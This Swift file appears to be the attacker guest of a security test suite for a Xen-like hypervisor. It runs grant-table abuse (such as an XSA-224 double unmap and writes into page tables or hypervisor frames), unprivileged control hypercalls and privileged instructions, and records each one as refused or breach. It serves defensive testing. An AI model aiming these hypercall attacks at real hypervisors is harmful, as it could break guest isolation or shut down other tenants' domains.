/// Grant-table attacks (Spec/Attacks.swift: xsa224GrantDoubleUnmap, writableMapOfGrantedPageTable,
/// writableMapOfReadOnlyGrant, decreaseReservationOfGrantedFrame, grantCopyIntoPageTable,
/// mapGrantNotAddressedToMe), control operations a guest may not use
/// (unprivilegedDomainCreate and friends), and privileged instructions.
import GuestArch

func grantAttacks() {
  let table: GrantTable
  do throws(XenError) { table = try GrantTable.setUp(frames: 1) } catch {
    attack("grant table setup") { .breach("setup_table failed (\(error.text)); grant attacks not run") }
    return
  }
  let me = Target.domid
  // A page of our own to grant to ourselves, and a VA to map grants at.
  let page = UnsafeMutableRawPointer.allocate(byteCount: 4096, alignment: 4096)
  page.storeBytes(of: 0x6772_616E_7400, as: UInt64.self)
  let pageVA = UInt64(UInt(bitPattern: page))
  let pageMFN = (PageTable.machineAddress(of: pageVA, Target.boot) ?? 0) >> 12
  let window = UnsafeMutableRawPointer.allocate(byteCount: 4096, alignment: 4096)
  let windowVA = UInt64(UInt(bitPattern: window))
  let windowMA = PageTable.machineAddress(of: windowVA, Target.boot) ?? 0
  func restoreWindow() { _ = uva(windowVA, windowMA | rw | PageTable.dirty) }

  // Grants go to an accomplice (`partner=`, another attacker that grants the same refs back);
  // without one, to ourselves (Bulkhead refuses self-grants at the entry, so those attempts
  // stop earlier than the check they are named after).
  let other = Target.partner ?? me
  table.grantAccess(20, to: other, mfn: pageMFN, readOnly: false)
  table.grantAccess(21, to: other, mfn: Target.l1, readOnly: false)
  table.grantAccess(22, to: other, mfn: pageMFN, readOnly: true)
  // Entries naming frames we do not own: the hypervisor must check them when they are used.
  if let f = Target.foreign.first { table.grantAccess(13, to: other, mfn: f, readOnly: true) }
  table.grantAccess(14, to: other, mfn: 0x100, readOnly: true)
  table.grantAccess(15, to: other, mfn: pageMFN, readOnly: true)
  if Target.partner != nil {
    // Wait until the partner's ref 20 can be mapped: it may start later, and under the credit
    // scheduler a yield returns at once when nobody else is runnable, so count generously.
    var ready = false
    for _ in 0..<50_000 where !ready {
      if let m = try? GrantTable.map(domain: other, ref: 20, hostAddress: nil, readOnly: true) {
        try? GrantTable.unmap(handle: m.handle, hostAddress: nil)
        ready = true
      } else {
        Sched.yield()
      }
    }
    print("attacker: partner \(other) \(ready ? "has granted refs 20-22" : "never granted ref 20")")
  }

  attack("xsa224GrantDoubleUnmap") {
    let m: GrantTable.Mapping
    do throws(GrantStatus) { m = try GrantTable.map(domain: other, ref: 20, hostAddress: windowVA, readOnly: false) } catch {
      restoreWindow()
      return .refused("map refused (\(error.text)); double unmap not reachable")
    }
    do throws(GrantStatus) { try GrantTable.unmap(handle: m.handle, hostAddress: windowVA) } catch {
      restoreWindow()
      return .breach("first unmap failed (\(error.text))")
    }
    let second = grant { () throws(GrantStatus) in try GrantTable.unmap(handle: m.handle, hostAddress: windowVA) }
    restoreWindow()
    return second
  }
  attack("unmapGrantBadHandle (0xffff)") {
    grant { () throws(GrantStatus) in try GrantTable.unmap(handle: 0xFFFF, hostAddress: nil) }
  }
  attack("writableMapOfGrantedPageTable (an L1 granted RW)") {
    defer { restoreWindow() }
    return grant { () throws(GrantStatus) in _ = try GrantTable.map(domain: other, ref: 21, hostAddress: windowVA, readOnly: false) }
  }
  attack("writableMapOfReadOnlyGrant") {
    defer { restoreWindow() }
    return grant { () throws(GrantStatus) in _ = try GrantTable.map(domain: other, ref: 22, hostAddress: windowVA, readOnly: false) }
  }
  attack("writablePTEOverReadOnlyGrant (map RO, then an RW PTE to the frame)") {
    guard let m = try? GrantTable.map(domain: other, ref: 22, hostAddress: nil, readOnly: true) else {
      return .refused("read-only map refused; not reachable")
    }
    let r = mmu1(Target.victimPTE, m.busAddress & PageTable.frameMask | rw)
    if r >= 0 { _ = mmu1(Target.victimPTE, Target.victimMFN << 12 | rw | PageTable.dirty) }
    try? GrantTable.unmap(handle: m.handle, hostAddress: nil)
    return errno(r)
  }
  attack("unmapGrantStillInPageTable (map, PTE to it, unmap)") {
    guard let m = try? GrantTable.map(domain: other, ref: 20, hostAddress: nil, readOnly: false) else {
      return .refused("map refused; not reachable")
    }
    let pte = mmu1(Target.victimPTE, m.busAddress & PageTable.frameMask | rw)
    let unmapped = grant { () throws(GrantStatus) in try GrantTable.unmap(handle: m.handle, hostAddress: nil) }
    _ = mmu1(Target.victimPTE, Target.victimMFN << 12 | rw | PageTable.dirty)
    if case .refused = unmapped { try? GrantTable.unmap(handle: m.handle, hostAddress: nil) }
    if pte < 0 { return .refused("PTE to the granted frame refused (errno \(-pte))") }
    return unmapped
  }
  if let f = Target.foreign.first {
    attack("mapGrantOfForeignFrame (the entry names a frame its granter does not own)") {
      defer { restoreWindow() }
      return grant { () throws(GrantStatus) in _ = try GrantTable.map(domain: other, ref: 13, hostAddress: windowVA, readOnly: true) }
    }
  }
  attack("mapGrantOfHypervisorFrame (the entry names mfn 0x100)") {
    defer { restoreWindow() }
    return grant { () throws(GrantStatus) in _ = try GrantTable.map(domain: other, ref: 14, hostAddress: windowVA, readOnly: true) }
  }
  attack("mapGrantAtHypervisorAddress (host_addr in the direct map)") {
    return grant { () throws(GrantStatus) in
      _ = try GrantTable.map(domain: other, ref: 15, hostAddress: 0xFFFF_8300_0000_0000, readOnly: true)
    }
  }
  func copy(_ src: UInt64, _ dst: UInt64, srcDom: UInt16 = UInt16(XEN_DOMID_SELF), dstDom: UInt16 = UInt16(XEN_DOMID_SELF), flags: UInt16 = 0) -> Outcome {
    var op = xen_gnttab_copy(
      source: xen_gnttab_copy_ptr(u: src, domid: srcDom, offset: 0),
      dest: xen_gnttab_copy_ptr(u: dst, domid: dstDom, offset: 0), len: 64, flags: flags, status: 0)
    return grant { () throws(GrantStatus) in try GrantTable.copy(&op) }
  }
  attack("grantCopyIntoPageTable (own data -> own L1)") { copy(pageMFN, Target.l1) }
  attack("grantCopyFromHypervisorFrame (0x100 -> own page)") { copy(0x100, pageMFN) }
  attack("grantCopyIntoHypervisorFrame (own page -> 0x100)") { copy(pageMFN, 0x100) }
  if let f = Target.foreign.first {
    attack("grantCopyFromForeignFrame") { copy(f, pageMFN) }
    attack("grantCopyIntoForeignFrame") { copy(pageMFN, f) }
  }
  attack("grantCopyOffsetPastPage (offset 4090, len 64)") {
    var op = xen_gnttab_copy(
      source: xen_gnttab_copy_ptr(u: pageMFN, domid: UInt16(XEN_DOMID_SELF), offset: 4090),
      dest: xen_gnttab_copy_ptr(u: pageMFN, domid: UInt16(XEN_DOMID_SELF), offset: 0), len: 64, flags: 0, status: 0)
    return grant { () throws(GrantStatus) in try GrantTable.copy(&op) }
  }
  attack("grantSetupTable 1000 frames") {
    var s = xen_gnttab_setup_table(dom: UInt16(XEN_DOMID_SELF), nr_frames: 1000, status: 0, frame_list: Target.victimVA + 64)
    let r = withUnsafeMutablePointer(to: &s) { guest_hypercall(20, 2, addr($0), 1, 0, 0) }
    return r < 0 ? .refused("errno \(-r)") : s.status != 0 ? .refused("GNTST \(s.status)") : .breach("1000 frames")
  }
  if let peer = Target.peer {
    attack("grantSetupTable for peer \(peer)") {
      var s = xen_gnttab_setup_table(dom: peer, nr_frames: 1, status: 0, frame_list: Target.victimVA + 64)
      let r = withUnsafeMutablePointer(to: &s) { guest_hypercall(20, 2, addr($0), 1, 0, 0) }
      return r < 0 ? .refused("errno \(-r)") : s.status != 0 ? .refused("GNTST \(s.status)") : .breach("peer's frames returned")
    }
    for ref: UInt32 in [0, 1, 8, 9, 100] {
      attack("mapGrantNotAddressedToMe (peer \(peer) ref \(ref))") {
        defer { restoreWindow() }
        return grant { () throws(GrantStatus) in _ = try GrantTable.map(domain: peer, ref: ref, hostAddress: windowVA, readOnly: true) }
      }
      attack("grantCopyFromPeerRef (peer \(peer) ref \(ref))") {
        copy(UInt64(ref), pageMFN, srcDom: peer, flags: UInt16(XEN_GNTCOPY_source_gref))
      }
    }
  }
}

/// Control operations only a privileged domain (or nobody) may use.
func controlAttacks() {
  let target = UInt64(Target.peer ?? 0)
  attack("unprivilegedDomainCreate (domctl)") {
    var buf = [UInt64](repeating: 0, count: 32)
    buf[0] = 1 | 0x0000_0015 << 32   // cmd createdomain, interface version
    return buf.withUnsafeMutableBufferPointer { errno(guest_hypercall(36, UInt64(UInt(bitPattern: $0.baseAddress)), 0, 0, 0, 0)) }
  }
  attack("unprivilegedSysctl") {
    var buf = [UInt64](repeating: 0, count: 32)
    return buf.withUnsafeMutableBufferPointer { errno(guest_hypercall(35, UInt64(UInt(bitPattern: $0.baseAddress)), 0, 0, 0, 0)) }
  }
  attack("remoteShutdown of domain \(target)") {
    var arg: (UInt16, UInt16, UInt32) = (UInt16(target), 0, 0)   // { domid, pad, reason poweroff }
    return errno(withUnsafeMutablePointer(to: &arg) { guest_hypercall(29, 4, addr($0), 0, 0, 0) })
  }
  attack("memoryOp current_reservation of domain \(target)") {
    var d = UInt16(target)
    let r = withUnsafeMutablePointer(to: &d) { guest_hypercall(12, 3, addr($0), 0, 0, 0) }
    return target == UInt64(Target.domid) ? .refused("own domain; skipped (\(r))") : errno(r)
  }
  attack("populatePhysmap for domain \(target)") {
    errno(reservation(XEN_XENMEM_populate_physmap, [0x10_0000], domid: UInt16(target)))
  }
  attack("decreaseReservation for domain \(target)") {
    errno(reservation(XEN_XENMEM_decrease_reservation, [Target.foreign.first ?? 0x100], domid: UInt16(target)))
  }
  attack("mmuUpdate on behalf of domain \(target)") { errno(mmu1(Target.victimPTE, Target.victimMFN << 12 | ro, domid: target)) }
  attack("mmuextOp on behalf of domain \(target)") { errno(ext1(XEN_MMUEXT_TLB_FLUSH_LOCAL, 0, domid: target)) }
  attack("vcpuOp on vCPU 99") { errno(guest_hypercall(24, UInt64(XEN_VCPUOP_is_up), 99, 0, 0, 0)) }
  attack("vcpuOp up vCPU 1 of a 1-vCPU domain") { errno(guest_hypercall(24, 1, 1, 0, 0, 0)) }
  attack("physdevOp set_iopl 3") {
    var iopl: UInt32 = 3
    return errno(withUnsafeMutablePointer(to: &iopl) { guest_hypercall(33, 6, addr($0), 0, 0, 0) })
  }
  attack("iopl raised by HYPERVISOR_iret? (rflags.IOPL=3 then in)") {
    // set_iopl may be refused above; an in/out must still fault.
    fault(guest_probe_inb())
  }
}

/// Privileged instructions from the guest kernel (ring 3): each must fault, and the fault is
/// bounced to our #GP/#UD handler, which skips it.
func instructionAttacks() {
  var gdtr: (UInt64, UInt64) = (0, 0)
  let l4ma = Target.l4 << 12
  attack("cli") { fault(guest_probe_cli()) }
  attack("sti") { fault(guest_probe_sti()) }
  attack("hlt") { fault(guest_probe_hlt()) }
  attack("in (port 0x80)") { fault(guest_probe_inb()) }
  attack("out (port 0x80)") { fault(guest_probe_outb()) }
  attack("mov from cr3") { fault(guest_probe_read_cr3()) }
  attack("mov to cr3 (own L4)") { fault(guest_probe_write_cr3(l4ma)) }
  attack("wrmsr EFER") { fault(guest_probe_wrmsr(0xC000_0080, 0)) }
  attack("wrmsr LSTAR (syscall entry)") { fault(guest_probe_wrmsr(0xC000_0082, 0x40_0000)) }
  attack("rdmsr EFER") { fault(guest_probe_rdmsr(0xC000_0080)) }
  attack("lgdt") { fault(withUnsafePointer(to: &gdtr) { guest_probe_lgdt($0) }) }
  attack("lidt") { fault(withUnsafePointer(to: &gdtr) { guest_probe_lidt($0) }) }
  attack("invlpg") { fault(guest_probe_invlpg(Target.victimVA)) }
  attack("wbinvd") { fault(guest_probe_wbinvd()) }
}
